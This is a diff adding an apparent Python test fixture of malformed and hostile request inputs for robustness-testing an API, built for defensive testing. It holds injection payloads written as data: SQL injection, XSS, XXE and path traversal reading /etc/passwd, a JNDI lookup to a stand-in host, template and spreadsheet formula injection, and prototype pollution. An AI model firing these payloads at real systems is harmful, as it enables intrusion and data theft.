@@ -1,0 +1,156 @@
+"""What nobody should send and somebody does: values for one place of a request, and whole bodies.
+
+Written for this project. `Raw` holds what Python's own JSON would not write.
+"""
+
+import json
+
+from tests.api.doors import Raw
+
+WORDS = {
+    "empty": "",
+    "blank": " \t ",
+    "NUL": "a\0b",
+    "control": "a\x01\x07\x1b[31mb\x7f",
+    "line breaks": "a\r\nSet-Cookie: x=y\n\u2028b",
+    "lone surrogate": "a\ud83d",
+    "surrogates swapped": "\ude00\ud83d",
+    "right to left": "\u202e网格\u202c abc\u200f",
+    "zero width": "网\u200b格\ufeff\u2060",
+    "combining": "e" + "\u0301" * 500,
+    "family": "👨‍👩‍👧‍👦🏳️‍🌈🇨🇳",
+    "astral": "𠀀𪚥",
+    "private use": "\ue000\U0010ffff",
+    "quote": "'\"`´’",
+    "SQL": "1'; DROP TABLE work.ticket; --",
+    "SQL or": "' OR '1'='1",
+    "SQL sleep": "1); SELECT pg_sleep(30); --",
+    "LIKE": "%_\\%",
+    "bind": ":area ::bigint %(x)s $1 ?",
+    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;&#x0;",
+    "XML": "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "format": "%s%n%x {0} {self.__class__} ${jndi:ldap://x.example/a} {{7*7}}",
+    "path": "../../../../etc/passwd",
+    "path encoded": "..%2f..%2fetc%2fpasswd",
+    "path of Windows": "..\\..\\windows\\win.ini",
+    "dots": "..",
+    "slash": "/",
+    "scheme": "javascript:alert(1)//file:///etc/passwd",
+    "formula": "=cmd|' /C calc'!A0",
+    "array of SQL": '{1,NULL,"',
+    "JSON in text": '{"a": [1, 2',
+    "infinite": "Infinity",
+    "not a number": "NaN",
+    "hexadecimal": "0x1F",
+    "octal": "0o17",
+    "underscored": "1_000",
+    "full width": "１２３",
+    "Arabic digits": "٣٤",
+    "number": "12.5",
+    "negative zero": "-0",
+    "huge": "9" * 400,
+    "past a bigint": "9223372036854775808",
+    "past an integer": "2147483648",
+    "exponent": "1e400",
+    "tiny": "1e-400",
+    "true": "true",
+    "null": "null",
+    "year zero": "0000-00-00",
+    "last instant": "9999-12-31T23:59:59.999999-23:59",
+    "first instant": "0001-01-01T00:00:00+23:59",
+    "leap second": "2026-06-30T23:59:60Z",
+    "no such day": "2026-02-30",
+    "week": "2026-W09-1",
+    "ordinal": "2026-060T00:00:00+08:00",
+    "offset": "2026-05-01T08:00:00+99:99",
+    "box": "180,90,-180,-90",
+    "box of nothing": "nan,nan,inf,-inf",
+    "long": "网格" * 60_000,
+    "long ASCII": "a" * 4_000,
+}
+"""Text for every place: what is none in an address is percent-encoded there as its bytes."""
+
+VALUES = {
+    "1e400": b"1e400",
+    "-1e400": b"-1e400",
+    "-0": b"-0",
+    "-0.0": b"-0.0",
+    "NaN": b"NaN",
+    "Infinity": b"-Infinity",
+    "huge integer": b"9" * 5_000,
+    "integer of 400": b"9" * 400,
+    "bigint": b"9223372036854775808",
+    "tiny": b"1e-400",
+    "true": b"true",
+    "null": b"null",
+    "empty list": b"[]",
+    "empty object": b"{}",
+    "list for a value": b'["x", 1, null]',
+    "object for a value": b'{"$ne": null}',
+    "list of lists": b"[" * 40 + b"]" * 40,
+    "same key twice": b'{"type": "x", "type": ["y"]}',
+    "prototype": b'{"__proto__": {"admin": true}, "constructor": 1}',
+    "escaped NUL": b'"\\u0000"',
+    "half a pair": b'"\\ud800"',
+    "bad escape": b'"\\x41"',
+    "raw control": b'"a\x01b"',
+    "bare word": b"undefined",
+    "single quotes": b"'x'",
+    "comment": b'/* x */ "x"',
+    "bad UTF-8": b'"\xff\xfe"',
+    "overlong UTF-8": b'"\xc0\x80"',
+    "surrogate in UTF-8": b'"\xed\xa0\x80"',
+    "GBK": b'"\xcd\xf8\xb8\xf1"',
+    "cut UTF-8": b'"\xe7\xbd\x91\xe6\xa0"',
+}
+"""JSON for every place of a body."""
+
+BYTES = {
+    "bad UTF-8": b"\xff\xfe",
+    "cut UTF-8": b"\xe7\xbd\x91\xe6\xa0",
+    "GBK": b"\xcd\xf8\xb8\xf1",
+    "overlong slash": b"\xc0\xaf",
+    "surrogate": b"\xed\xa0\x80",
+}
+"""Bytes for every place of an address that are no UTF-8."""
+
+JSON = "application/json"
+BODIES = {
+    "nothing": (b"", JSON),
+    "blank": (b" \n", JSON),
+    "cut off": (b'{"a": "b', JSON),
+    "a word": (b"null", JSON),
+    "a number": (b"1e400", JSON),
+    "a text": (b'"x"', JSON),
+    "a list": (b"[{}]", JSON),
+    "two objects": (b"{}{}", JSON),
+    "trailing comma": (b'{"a": 1,}', JSON),
+    "deep lists": (b"[" * 100_000, JSON),
+    "deep objects": (b'{"a":' * 50_000 + b"1" + b"}" * 50_000, JSON),
+    "many keys": (json.dumps({f"k{n}": n for n in range(5_000)}).encode(), JSON),
+    "huge key": (json.dumps({"k" * 100_000: 1}).encode(), JSON),
+    "surrogate key": (b'{"\\ud800": 1}', JSON),
+    "NUL key": (b'{"\\u0000": 1}', JSON),
+    "byte order mark": (b"\xef\xbb\xbf{}", JSON),
+    "UTF-16": ("{}".encode("utf-16"), JSON),
+    "UTF-32": ("{}".encode("utf-32"), JSON),
+    "GBK": ('{"description": "网格"}'.encode("gbk"), JSON),
+    "GBK that says so": ('{"description": "网格"}'.encode("gbk"), "application/json; charset=gbk"),
+    "no such charset": (b"{}", "application/json; charset=klingon"),
+    "bytes": (bytes(range(256)), JSON),
+    "bytes of no kind": (bytes(range(256)), "application/octet-stream"),
+    "form": (b"lon=1&lat=2&a[]=%ff", "application/x-www-form-urlencoded"),
+    "parts without a boundary": (b"--x\r\n", "multipart/form-data"),
+    "parts cut off": (b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n', "multipart/form-data; boundary=x"),
+    "XML": (b"<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>", "application/xml"),
+    "text": (b"lon=1", "text/plain"),
+    "no type": (b"{}", ""),
+    "nonsense type": (b"{}", "\xe7;;;/="),
+    "gzip that is none": (b"\x1f\x8b\x08", "application/gzip"),
+}
+"""Whole bodies with their content types."""
+
+
+def of_text(word: str) -> Raw:
+    """The word as a body and as an address have it."""
+    return Raw(json.dumps(word).encode(), word.encode("utf-8", "surrogatepass"))
